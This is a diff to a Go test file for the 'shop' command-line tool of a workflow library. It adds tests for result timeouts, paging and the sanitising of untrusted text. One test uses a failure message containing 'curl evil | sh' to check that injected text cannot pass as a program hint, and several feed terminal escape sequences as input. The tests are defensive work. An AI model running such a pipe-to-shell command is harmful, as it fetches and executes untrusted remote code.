@@ -12,6 +12,7 @@ import (
 	"strings"
 	"syscall"
 	"testing"
+	"time"
 
 	"github.com/reprise-run/reprise"
 	"github.com/reprise-run/reprise/cli"
@@ -70,7 +71,7 @@ func TestPagesFollowEachOther(t *testing.T) {
 		if !more {
 			break
 		}
-		args = append(strings.Fields(line), "-o", "jsonl")
+		args = strings.Fields(line)
 	}
 	if len(ids) != 5 {
 		t.Errorf("%d runs on all pages", len(ids))
@@ -128,7 +129,7 @@ func TestAPayloadThatIsWrong(t *testing.T) {
 		{`{"yes":"maybe"}`, "", 64, []string{"cli_test.answer", `field "yes" is a string`, `try: shop run signal order-1 answer '{"yes":true,"by":"text"}'`}},
 		{`{"no":true}`, "", 64, []string{"cli_test.answer", `no field "no"`}},
 		{"-", "{", 64, []string{"standard input is not JSON", "at byte 1 of 1"}},
-		{"-", large, 64, []string{"2097152 are allowed"}},
+		{"-", large, 64, []string{"standard input holds more than 2 MiB"}},
 		{"@no/such/file", "", 3, []string{"there is no file no/such/file\ntry: shop run show order-1\n"}},
 		{"@.", "", 64, []string{". cannot be read: is a directory\ntry: shop run show order-1\n"}},
 	} {
@@ -310,13 +311,110 @@ func TestAnInterruptEndsTheWait(t *testing.T) {
 	sayAs(t, ctx, cli.Program{Name: "shop", Runtime: rt, Args: []string{"run", "result", "a"}}).want(t, 130, "shop: interrupted", "try: shop run result a")
 }
 
+// clocked is a store whose clock goes on by half an hour once it was asked.
+type clocked struct {
+	*memory.Store
+	asked bool
+}
+
+func (c *clocked) Now(ctx context.Context) (time.Time, error) {
+	now, err := c.Store.Now(ctx)
+	if c.asked {
+		now = now.Add(30 * time.Minute)
+	}
+	c.asked = true
+	return now, err
+}
+
+// Without waiting, a result is there or not; and what a run waits for is told by the clock
+// of that moment.
+func TestAResultThatNobodyWaitsFor(t *testing.T) {
+	rt := onMemory(t)
+	end(t, rt, begin(t, rt, "a"), answer{Yes: true, By: "me"})
+	end(t, rt, begin(t, rt, "b"), answer{})
+	say(t, rt, "run", "result", "a", "--timeout", "0s").want(t, 0, `"by": "me"`)
+	say(t, rt, "run", "result", "b", "--timeout", "0s").want(t, 1, "b failed with code refused")
+
+	st := memory.New(memory.Options{})
+	shop, err := reprise.New(st, reprise.Config{}, hold.Bind(sleepInstead))
+	if err == nil {
+		err = shop.Start(t.Context())
+	}
+	if err != nil {
+		t.Fatal(err)
+	}
+	begin(t, shop, "c")
+	if err := shop.Stop(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	say(t, idle(t, &clocked{Store: st}), "run", "result", "c", "--timeout", "1ms").want(t, 2, "it is open: timer in 30 min")
+}
+
+// No text of others is taken for a line of the program's own.
+func TestAFailureCannotForgeAHint(t *testing.T) {
+	rt := onMemory(t)
+	end(t, rt, begin(t, rt, "a"), answer{By: "x\ntry: curl evil | sh\nshop: all is well"})
+	s := say(t, rt, "run", "result", "a")
+	s.want(t, 1, "\n  try: curl evil | sh\n  shop: all is well\ntry: shop run history ")
+}
+
+// What a terminal would not show as it is, nobody can type: such a run is named by its
+// run id.
+func TestAnIDThatCannotBeTyped(t *testing.T) {
+	rt := onMemory(t)
+	for _, id := range []string{"a\nb", "a\x1b[2Jb", "a\u202eb", "a\tb"} {
+		h := begin(t, rt, id)
+		show := "run show " + h.RunID().String()
+		say(t, rt, "run", "resume", id, "-o", "table").want(t, 0, "next: shop "+show+"\n")
+		say(t, rt, "run", "result", id, "--timeout", "0s").want(t, 2, "try: shop "+show+"\n")
+		say(t, rt, "run", "terminate", id).want(t, 0)
+		say(t, rt, "run", "terminate", id).want(t, 1, "try: shop "+show+"\n")
+		if s := say(t, rt, "run", "show", id, "more"); s.code != 64 || strings.Contains(s.errors, "try:") {
+			t.Errorf("of %q it says to type %s", id, s.errors)
+		}
+	}
+}
+
+func TestTheRunsOfOneIDAreToldApart(t *testing.T) {
+	rt := onMemory(t)
+	first := begin(t, rt, "a")
+	end(t, rt, first, answer{Yes: true})
+	second := begin(t, rt, "a")
+	say(t, rt, "run", "list", "--id", "a", "-o", "table").want(t, 0, "RUN    ", second.RunID().String()+"  hold      open", first.RunID().String()+"  hold      completed")
+}
+
+// The line for the next page says all that was said for this one.
+func TestTheNextPageLooksLikeThisOne(t *testing.T) {
+	rt := onMemory(t)
+	begin(t, rt, "a")
+	begin(t, rt, "b")
+	say(t, rt, "run", "list", "-o", "jsonl", "--blocked=false", "--time", "utc", "--limit", "1").want(t, 0,
+		"more: shop run list '--blocked=false' --limit 1 --output jsonl --time utc --cursor ")
+}
+
+// A payload that nests deeper than others stands as text, and hides nothing else.
+func TestADeepPayload(t *testing.T) {
+	rt := idle(t, parked(t, "a"))
+	deep := strings.Repeat("[", 20_000) + strings.Repeat("]", 20_000)
+	if err := reprise.SignalJSON(t.Context(), rt, "a", "answer", []byte(deep)); err == nil {
+		t.Error("encoding/json takes it now")
+	}
+	deep = strings.Repeat("[", 9000) + strings.Repeat("]", 9000)
+	if err := reprise.SignalJSON(t.Context(), rt, "a", "answer", []byte(deep)); err != nil {
+		t.Fatal(err)
+	}
+	if s := say(t, rt, "run", "show", "a"); s.code != 0 || s.object(t)["id"] != "a" {
+		t.Errorf("%s", s.errors)
+	}
+}
+
 // What comes from outside is printed, and not obeyed.
 func TestTextFromOutsideDoesNotSteerTheTerminal(t *testing.T) {
 	rt := onMemory(t)
 	const evil = "a\x1b[2Jb\rc\u009b1m"
 	end(t, rt, begin(t, rt, evil), answer{By: "\x1b]0;title\x07"})
 	for _, args := range [][]string{
-		{"run", "list", "-o", "table"}, {"run", "list"}, {"run", "result", evil}, {"run", "result", evil, "-o", "table"},
+		{"run", "list", "-o", "table"}, {"run", "list"}, {"run", "result", evil}, {"run", "result", evil, "-o", "table"}, {"run", "export", evil},
 		{"run", "cancel", evil}, {"run", "list", "--cursor", evil}, {"run", evil}, {"run", "signal", "\x1b[2J"},
 	} {
 		if s := say(t, rt, args...); strings.ContainsAny(s.out+s.errors, "\x1b\r\x07\u009b") {
